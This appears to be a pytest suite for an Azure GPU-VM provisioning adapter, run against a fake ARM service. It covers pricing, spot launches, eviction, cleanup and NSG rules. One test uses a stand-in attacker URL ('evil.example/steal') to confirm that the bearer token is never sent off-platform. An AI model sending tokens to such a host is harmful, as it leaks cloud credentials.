"""Azure adapter against the stateful ARM / Entra ID / Retail Prices stand-in."""

from __future__ import annotations

from decimal import Decimal

import pytest

from providers.adapters.azure import AzureAdapter, sku_gpu_class
from providers.adapters.base import (
    REMOTE_FAILED,
    REMOTE_INTERRUPTED,
    REMOTE_PROVISIONING,
    REMOTE_RUNNING,
    CapacityUnavailable,
    InvalidCredentials,
    LaunchRequest,
    NotFound,
    QuotaExceeded,
    TransientError,
)
from providers.adapters.registry import provider_info
from providers.adapters.rest import tokens
from providers.services import capacity_poll, provider_account_create
from provisioner import clock
from tests.standins.azure import FakeAzure, account_settings, credentials
from workloads.lifecycle import services
from workloads.models import PodState

from ..factories import WorkloadFactory

TAG = "5a5a5a5a-0000-4000-8000-000000000001"


@pytest.fixture(autouse=True)
def _fresh_tokens():
    tokens.clear()
    yield
    tokens.clear()


@pytest.fixture
def az():
    return FakeAzure()


def adapter(fa: FakeAzure, sleeps: list[float] | None = None, **settings) -> AzureAdapter:
    return AzureAdapter(credentials(), account_settings("https://azure.invalid", **settings), transport=fa.transport(),
                        sleep=(sleeps if sleeps is not None else []).append)


def request(**kw) -> LaunchRequest:
    base = dict(tag=TAG, name="train-5a5a", image="nvcr.io/nvidia/pytorch:24.08-py3", gpu_class="A100-80", gpu_count=1,
                region="eastus", instance_type="Standard_NC24ads_A100_v4", spot=True, bid_price_per_hour=Decimal("0.8437"),
                ports=[{"port": 8888}], env={"EPOCHS": "3"}, volumes=[{"kind": "persistent", "size_gb": 100, "mount_path": "/data"}])
    base.update(kw)
    return LaunchRequest(**base)


def test_sku_series_map_to_canonical_classes():
    assert sku_gpu_class("Standard_NC24ads_A100_v4") == "A100-80"
    assert sku_gpu_class("Standard_ND96asr_v4") == "A100-40"
    assert sku_gpu_class("Standard_ND96isr_H100_v5") == "H100"
    assert sku_gpu_class("Standard_NC40ads_H100_v5") == "H100"
    assert sku_gpu_class("Standard_NC4as_T4_v3") == "T4"
    assert sku_gpu_class("Standard_NV36ads_A10_v5") == "A10"
    assert sku_gpu_class("Standard_NV6ads_A10_v5") is None  # a sixth of a GPU
    assert sku_gpu_class("Standard_D4s_v5") is None


def test_wizard_fields():
    fields = {f.name: f for f in provider_info("azure").credential_fields}
    assert set(fields) == {"tenant_id", "client_id", "client_secret", "subscription_id", "resource_group", "subnet_id", "locations"}
    assert [n for n, f in fields.items() if f.secret] == ["client_secret"]


def test_wizard_values_work_without_settings(az):
    creds = {**credentials(), "resource_group": "gpu-rg", "subnet_id": account_settings("x")["subnet_id"], "locations": "westeurope"}
    a = AzureAdapter(creds, {"base_url": "https://azure.invalid", "poll_interval_seconds": 0}, transport=az.transport())
    assert {o.region for o in a.list_offers()} == {"westeurope"}
    assert a.launch(request(region="westeurope", spot=False)).state == REMOTE_RUNNING


def test_token_is_cached_until_expiry(az):
    a = adapter(az)
    with clock.frozen() as advance:
        a.verify()
        adapter(az).verify()  # a new adapter instance reuses the cached token
        assert az.token_requests == 1
        advance(minutes=59)  # within 2 minutes of expiry: refreshed
        adapter(az).verify()
        assert az.token_requests == 2
    form = next(r["body"] for r in az.requests if r["path"].endswith("/oauth2/v2.0/token"))
    assert form["scope"] == ["https://management.azure.com/.default"] and form["grant_type"] == ["client_credentials"]


def test_verify_checks_resource_group_and_subnet(az):
    from providers.adapters.base import PermanentError

    adapter(az).verify()
    with pytest.raises(PermanentError, match="resource group 'nope' not found"):
        adapter(az, resource_group="nope").verify()
    with pytest.raises(PermanentError, match="subnet"):
        adapter(az, subnet_id=account_settings("x")["subnet_id"] + "x").verify()


def test_a_refused_cached_token_is_replaced_once(az):
    adapter(az).verify()
    az.tokens.clear()  # the cached token is no longer accepted (revoked)
    adapter(az).verify()
    assert az.token_requests == 2


def test_wrong_secret_is_invalid_credentials(az):
    bad = AzureAdapter({**credentials(), "client_secret": "nope"}, account_settings("https://x"), transport=az.transport())
    with pytest.raises(InvalidCredentials, match="AADSTS7000215"):
        bad.verify()


def test_offers_from_skus_and_retail_prices(az):
    az.restrict("Standard_NC24ads_A100_v4", "swedencentral")
    az.restrict("Standard_NC4as_T4_v3", "westeurope", zones=["1", "2", "3"])  # every zone restricted
    az.restrict("Standard_NC4as_T4_v3", "eastus", zones=["2"])
    offers = {(o.instance_type, o.region, o.spot): o for o in adapter(az).list_offers()}
    assert ("Standard_NC24ads_A100_v4", "swedencentral", False) not in offers
    assert ("Standard_NC4as_T4_v3", "westeurope", False) not in offers
    assert offers[("Standard_NC4as_T4_v3", "eastus", False)].extra["zones"] == ["1", "3"]
    assert not any(k[0] in ("Standard_NV6ads_A10_v5", "Standard_D4s_v5") for k in offers)
    od, spot = offers[("Standard_NC24ads_A100_v4", "eastus", False)], offers[("Standard_NC24ads_A100_v4", "eastus", True)]
    assert (od.gpu_class, od.gpu_count, od.country, od.currency) == ("A100-80", 1, "US", "USD")
    assert od.price_per_hour == Decimal("3.673") and spot.price_per_hour == Decimal("0.8437")  # not Windows, not Low Priority
    h100 = offers[("Standard_ND96isr_H100_v5", "westeurope", False)]
    assert (h100.gpu_class, h100.gpu_count, h100.country) == ("H100", 8, "NL")
    assert ("Standard_ND96isr_H100_v5", "westeurope", True) not in offers  # no spot meter there
    # both listings were paged (3 items a page): every NextPageLink/nextLink was followed
    assert sum(1 for r in az.requests if r["path"] == "/api/retail/prices") > 3
    assert sum(1 for r in az.requests if r["path"].endswith("/Microsoft.Compute/skus")) > 3


def test_token_is_never_sent_outside_arm(az):
    from providers.adapters.base import PermanentError

    a = adapter(az)
    with pytest.raises(PermanentError, match="evil.example"):
        a._arm("GET", "https://evil.example/steal?api-version=1")
    assert not any(r["path"] == "/steal" for r in az.requests)


def test_allowed_regions_narrow_the_query(az):
    a = AzureAdapter(credentials(), {**account_settings("https://x"), "locations": [], "allowed_regions": ["westeurope"]},
                     transport=az.transport())
    assert {o.region for o in a.list_offers()} == {"westeurope"}
    sku_calls = [r for r in az.requests if r["path"].endswith("/skus")]
    assert sku_calls[0]["query"]["$filter"] == "location eq 'westeurope'"


def test_spot_launch_body_lro_and_idempotency(az):
    az.lro_polls = 3
    a = adapter(az)
    remote = a.launch(request())
    assert remote.state == REMOTE_RUNNING and remote.tag == TAG and remote.connection["private_ip"].startswith("10.1.0.")
    vm = az.vms[remote.external_id]
    props = vm["properties"]
    assert props["priority"] == "Spot" and props["evictionPolicy"] == "Delete" and props["billingProfile"] == {"maxPrice": -1}
    assert vm["tags"]["provisioner-pod"] == TAG and props["hardwareProfile"]["vmSize"] == "Standard_NC24ads_A100_v4"
    assert props["storageProfile"]["dataDisks"][0]["diskSizeGB"] == 100
    assert props["networkProfile"]["networkInterfaces"][0]["properties"]["deleteOption"] == "Delete"
    import base64

    script = base64.b64decode(props["osProfile"]["customData"]).decode()
    assert "docker run" in script and "--gpus all" in script and "nvcr.io/nvidia/pytorch:24.08-py3" in script
    assert "EPOCHS=3" in script and "8888:8888" in script
    op_polls = [r for r in az.requests if "/operations/" in r["path"]]
    assert len(op_polls) >= 3  # the long-running operation was followed to the end
    puts = sum(1 for r in az.requests if r["method"] == "PUT" and "virtualMachines" in r["path"])
    assert a.launch(request()).external_id == remote.external_id  # found by name, not created again
    assert sum(1 for r in az.requests if r["method"] == "PUT" and "virtualMachines" in r["path"]) == puts
    assert [p.tag for p in a.list_pods()] == [TAG]


def test_bid_max_price_when_configured(az):
    remote = adapter(az, spot_max_price="bid").launch(request())
    assert az.vms[remote.external_id]["properties"]["billingProfile"] == {"maxPrice": 0.8437}


def test_on_demand_launch_has_no_spot_fields(az):
    remote = adapter(az).launch(request(spot=False, bid_price_per_hour=None))
    props = az.vms[remote.external_id]["properties"]
    assert props["priority"] == "Regular" and "evictionPolicy" not in props and "billingProfile" not in props


def test_launch_wait_is_bounded(az):
    az.lro_polls = 10_000
    remote = adapter(az, launch_wait_seconds=0.05).launch(request())
    assert remote.state == REMOTE_PROVISIONING


@pytest.mark.parametrize("code", ["AllocationFailed", "ZonalAllocationFailed", "OverconstrainedAllocationRequest"])
def test_async_allocation_failure_is_capacity_and_cleans_up(az, code):
    az.capacity[("Standard_NC24ads_A100_v4", "eastus")] = code
    with pytest.raises(CapacityUnavailable, match=code):
        adapter(az).launch(request())
    assert not az.vms and not az.nics  # neither the failed VM nor its NIC is left behind


def test_sku_not_available_is_capacity(az):
    with pytest.raises(CapacityUnavailable, match="SkuNotAvailable"):
        adapter(az).launch(request(region="swedencentral", instance_type="Standard_ND96isr_H100_v5"))
    assert not az.nics


def test_quota_and_throttling_are_typed(az):
    az.quota = True
    with pytest.raises(QuotaExceeded, match="Cores quota"):
        adapter(az).launch(request())
    az.quota = False
    az.throttle(times=4, retry_after=17)  # more 429s than the shared policy's 3 retries
    sleeps: list[float] = []
    with pytest.raises(TransientError) as exc:
        adapter(az, sleeps).verify()
    assert exc.value.retry_after == 17 and exc.value.status == 429
    assert sleeps == [17, 17, 17]


def test_failed_provisioning_reported_by_get(az):
    az.lro_polls = 2
    az.capacity[("Standard_NC24ads_A100_v4", "eastus")] = "AllocationFailed"
    a = adapter(az, launch_wait_seconds=0)  # launch returns before the verdict
    remote = a.launch(request())
    assert remote.state == REMOTE_PROVISIONING
    for op in az.operations.values():  # the operation completes in the background
        op["polls"] = op["needed"]
        if op.get("on_done"):
            op.pop("on_done")()
    got = a.get(remote.external_id)
    assert got.state == REMOTE_FAILED and got.message.startswith("AllocationFailed: Allocation failed")
    # the launch retried (same tag) reports the late failure as a capacity error, and cleans up
    with pytest.raises(CapacityUnavailable, match="AllocationFailed"):
        a.launch(request())
    assert not az.vms and not az.nics


def test_spot_eviction_with_delete_policy_is_an_interruption(az):
    a = adapter(az)
    remote = a.launch(request())
    az.evict(remote.external_id)
    assert not az.nics  # went with the VM
    got = a.get(remote.external_id)
    assert got.state == REMOTE_INTERRUPTED and "Evict" in got.message


def test_spot_vm_being_deleted_by_an_eviction_is_an_interruption(az):
    a = adapter(az)
    remote = a.launch(request())
    vm = az.vms[remote.external_id]
    az.activity.append(az._event(vm, "Microsoft.Compute/virtualMachines/evictSpotVM/action", "Evict Spot Virtual Machine"))
    vm["properties"]["provisioningState"] = "Deleting"
    assert a.get(remote.external_id).state == REMOTE_INTERRUPTED


def test_spot_eviction_with_deallocate_policy_is_an_interruption(az):
    a = adapter(az, eviction_policy="Deallocate")
    remote = a.launch(request())
    az.evict(remote.external_id)
    assert a.get(remote.external_id).state == REMOTE_INTERRUPTED


def test_terminate_follows_the_delete_operation(az):
    a = adapter(az)
    remote = a.launch(request())
    a.terminate(remote.external_id)
    assert not az.vms and not az.nics
    with pytest.raises(NotFound):
        a.get(remote.external_id)
    a.terminate(remote.external_id)  # already gone: silent


# --- through the app's lifecycle services (stand-in served on 127.0.0.1) -----------------------------


@pytest.fixture
def azure_account(tenant, az):
    with az.serve() as url:
        acct = provider_account_create(tenant=tenant, kind="azure", name="Azure", credentials=credentials(),
                                       settings=account_settings(url))
        capacity_poll(accounts=[acct])
        acct.refresh_from_db()
        yield acct


@pytest.mark.django_db(transaction=True)
def test_lifecycle_spot_launch_running_terminate(tenant, project, owner, az, azure_account):
    assert azure_account.health == "ok"
    assert azure_account.offers.filter(gpu_class="A100-80", spot=True, country="US").exists()
    (pod,) = services.workload_launch(workload=WorkloadFactory(tenant=tenant, project=project, owner=owner, interruption_tolerant=True), enqueue=False)
    pod = services.pod_provision(pod_id=str(pod.pk))
    assert pod.state == PodState.RUNNING and pod.spot and pod.region == "eastus"
    assert pod.price_usd_per_hour == Decimal("0.8437")
    assert az.vms[pod.external_id]["properties"]["priority"] == "Spot"
    assert services.pod_refresh(pod_id=str(pod.pk)).state == PodState.RUNNING
    pod = services.pod_terminate(pod_id=str(pod.pk))
    assert pod.state == PodState.TERMINATED and not az.vms


@pytest.mark.django_db(transaction=True)
def test_lifecycle_capacity_error_fails_over_to_next_region(tenant, project, owner, az, azure_account):
    az.capacity[("Standard_NC24ads_A100_v4", "eastus")] = "AllocationFailed"
    (pod,) = services.workload_launch(workload=WorkloadFactory(tenant=tenant, project=project, owner=owner), enqueue=False)
    pod = services.pod_provision(pod_id=str(pod.pk))
    assert pod.state == PodState.RUNNING and pod.region == "swedencentral" and not pod.spot  # next cheapest
    attempts = " ".join(pod.events.filter(kind="attempt").values_list("message", flat=True)).lower()
    assert "no capacity" in attempts


@pytest.mark.django_db(transaction=True)
def test_lifecycle_spot_eviction_detected(tenant, project, owner, az, azure_account):
    w = WorkloadFactory(tenant=tenant, project=project, owner=owner, interruption_tolerant=True)
    (pod,) = services.workload_launch(workload=w, enqueue=False)
    pod = services.pod_provision(pod_id=str(pod.pk))
    az.evict(pod.external_id)
    pod = services.pod_refresh(pod_id=str(pod.pk))
    assert pod.state == PodState.INTERRUPTED


# --- issue 13 §2.1: a private image logs in to its own registry ------------------------------------


def test_custom_data_logs_in_to_the_image_registry_even_when_the_credential_names_it_differently(az):
    import base64

    from tests.providers.registry_login_helpers import PRIVATE_IMAGE, REGISTRY_AUTH, assert_logs_in_to_nvcr

    # written as people paste it: the login still goes to the host the image is pulled from
    remote = adapter(az).launch(request(image=PRIVATE_IMAGE, registry_auth={**REGISTRY_AUTH, "registry": "https://nvcr.io/v2/"}))
    assert_logs_in_to_nvcr(base64.b64decode(az.vms[remote.external_id]["properties"]["osProfile"]["customData"]).decode())


# --- issue 13 §1 (Azure): a VM a developer can reach: Standard public IP + NSG per VM -------------------

SSH_FROM = ["203.0.113.7/32", "198.51.100.0/24"]


def test_a_launched_pod_is_reachable_on_its_public_ip_through_its_own_nsg(az):
    a = adapter(az, ssh_source_cidrs=SSH_FROM)
    remote = a.launch(request(ports=[{"port": 8888}, {"port": 6006, "protocol": "tcp"}, {"port": 22}]))
    nic = az.nics[f"{remote.external_id}-nic"]
    pip = az.public_ips[f"{remote.external_id}-ip"]
    nsg_id = nic["properties"]["networkSecurityGroup"]["id"]
    assert nsg_id.endswith(f"/networkSecurityGroups/{remote.external_id}-nsg")
    assert nic["properties"]["ipConfigurations"][0]["properties"]["publicIPAddress"]["id"] == pip["id"]
    assert pip["sku"]["name"] == "Standard" and pip["properties"]["publicIPAllocationMethod"] == "Static"
    address = pip["properties"]["ipAddress"]
    conn = remote.connection
    assert conn["host"] == address and conn["ssh"] == f"ssh azureuser@{address}" and conn["public_ip"] == address
    assert conn["private_ip"].startswith("10.1.0.") and conn["urls"] == {"8888": f"http://{address}:8888"}
    assert "note" not in conn
    rules = {r["name"]: r["properties"] for r in az.nsgs[f"{remote.external_id}-nsg"]["properties"]["securityRules"]}
    assert rules["allow-ssh"]["sourceAddressPrefixes"] == SSH_FROM and rules["allow-ssh"]["destinationPortRange"] == "22"
    assert rules["allow-port-8888"]["sourceAddressPrefix"] == "Internet"
    assert rules["allow-port-6006"]["sourceAddressPrefix"] == "Internet"
    assert set(rules) == {"allow-ssh", "allow-port-8888", "allow-port-6006"}  # port 22 once, from the CIDRs only
    priorities = [r["priority"] for r in rules.values()]
    assert len(set(priorities)) == len(priorities) and all(100 <= p <= 4096 for p in priorities)
    assert a.get(remote.external_id).connection == conn
    assert a.launch(request()).external_id == remote.external_id  # idempotent: nothing created twice
    assert len(az.public_ips) == 1 and len(az.nsgs) == 1


def test_without_allowed_cidrs_ssh_stays_closed_and_the_page_says_how_to_open_it(az):
    remote = adapter(az).launch(request())
    rules = az.nsgs[f"{remote.external_id}-nsg"]["properties"]["securityRules"]
    assert [r["properties"]["destinationPortRange"] for r in rules] == ["8888"]
    assert "SSH allowed from" in remote.connection["note"]


def test_a_private_workload_opens_no_port_to_the_internet(az):
    remote = adapter(az, ssh_source_cidrs=SSH_FROM).launch(request(public_ingress=False))
    rules = az.nsgs[f"{remote.external_id}-nsg"]["properties"]["securityRules"]
    assert [r["name"] for r in rules] == ["allow-ssh"] and "urls" not in remote.connection


def test_public_address_off_creates_none_and_shows_the_private_one(az):
    remote = adapter(az, public_ip=False, ssh_source_cidrs=SSH_FROM).launch(request())
    assert not az.public_ips and not any("/publicIPAddresses/" in r["path"] for r in az.requests)
    nic = az.nics[f"{remote.external_id}-nic"]
    assert "publicIPAddress" not in nic["properties"]["ipConfigurations"][0]["properties"]
    assert nic["properties"]["networkSecurityGroup"]["id"]
    assert remote.connection["host"].startswith("10.1.0.") and "Public address" in remote.connection["note"]
    assert [r["name"] for r in az.nsgs[f"{remote.external_id}-nsg"]["properties"]["securityRules"]] == ["allow-ssh"]


def test_the_accounts_ssh_key_is_installed(az):
    remote = adapter(az).launch(request())
    keys = az.vms[remote.external_id]["properties"]["osProfile"]["linuxConfiguration"]["ssh"]["publicKeys"]
    assert keys[0]["keyData"] == account_settings("x")["ssh_public_key"]


def test_terminate_deletes_vm_nic_public_ip_and_nsg_in_that_order(az):
    a = adapter(az, ssh_source_cidrs=SSH_FROM)
    remote = a.launch(request())
    before = len(az.requests)
    a.terminate(remote.external_id)
    assert not az.vms and not az.nics and not az.public_ips and not az.nsgs
    deletes = [r["path"].rsplit("/", 2)[1] for r in az.requests[before:] if r["method"] == "DELETE"]
    assert deletes == ["virtualMachines", "networkInterfaces", "publicIPAddresses", "networkSecurityGroups"]
    a.terminate(remote.external_id)  # all gone: 404s are fine


def test_a_failed_launch_leaves_no_address_or_nsg_behind(az):
    az.capacity[("Standard_NC24ads_A100_v4", "eastus")] = "AllocationFailed"
    with pytest.raises(CapacityUnavailable):
        adapter(az, ssh_source_cidrs=SSH_FROM).launch(request())
    assert not az.vms and not az.nics and not az.public_ips and not az.nsgs


def test_a_spot_eviction_releases_the_public_ip_and_nsg(az):
    a = adapter(az)
    remote = a.launch(request())
    az.evict(remote.external_id)  # evictionPolicy Delete: the VM and its NIC go, the address would stay
    assert a.get(remote.external_id).state == REMOTE_INTERRUPTED
    assert not az.public_ips and not az.nsgs


def test_network_settings_are_validated():
    from providers.adapters.azure_net import SettingsInvalid, clean_settings

    ok = clean_settings({"public_ip": True, "ssh_source_cidrs": "203.0.113.7, 198.51.100.0/24\n203.0.113.7/32",
                         "ssh_public_key": account_settings("x")["ssh_public_key"]})
    assert ok["ssh_source_cidrs"] == ["203.0.113.7/32", "198.51.100.0/24"] and ok["public_ip"] is True
    with pytest.raises(SettingsInvalid) as exc:
        clean_settings({"ssh_source_cidrs": "203.0.113.300/32", "ssh_public_key": "ssh-rsa nonsense"})
    assert set(exc.value.errors) == {"ssh_source_cidrs", "ssh_public_key"} and "203.0.113.300" in exc.value.errors["ssh_source_cidrs"]
    with pytest.raises(SettingsInvalid):
        clean_settings({"ssh_source_cidrs": "2001:db8::/32"})


def test_without_an_ssh_key_the_page_says_nobody_can_log_in(az):
    settings = {k: v for k, v in account_settings("https://azure.invalid", ssh_source_cidrs=SSH_FROM).items()
                if k != "ssh_public_key"}
    a = AzureAdapter(credentials(), settings, transport=az.transport(), sleep=lambda s: None)
    remote = a.launch(request())
    assert "No SSH key is set" in remote.connection["note"] and remote.connection["ssh"].startswith("ssh azureuser@20.")
